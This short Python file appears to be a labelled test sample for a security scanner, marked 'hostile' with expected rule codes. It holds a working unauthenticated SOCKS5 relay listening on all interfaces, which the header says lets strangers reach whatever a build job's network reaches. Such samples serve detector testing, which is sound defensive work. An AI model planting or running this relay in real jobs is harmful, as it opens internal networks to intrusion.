# label: hostile
# expect: V203 V204 V301 V302 V901
# note: Opens a relay in the job, so that strangers reach what the job's network reaches.
import socket
import struct
import threading


def pipe(a, b):
    try:
        while d := a.recv(8192):
            b.sendall(d)
    finally:
        b.close()


def client(c):
    c.recv(262)
    c.sendall(b"\x05\x00")
    _, _, _, kind = c.recv(4)
    host = socket.inet_ntoa(c.recv(4)) if kind == 1 else c.recv(c.recv(1)[0]).decode()
    (port,) = struct.unpack("!H", c.recv(2))
    out = socket.create_connection((host, port))
    c.sendall(b"\x05\x00\x00\x01" + bytes(6))
    threading.Thread(target=pipe, args=(c, out)).start()
    pipe(out, c)


s = socket.create_server(("0.0.0.0", 1080))
while True:
    threading.Thread(target=client, args=(s.accept()[0],)).start()
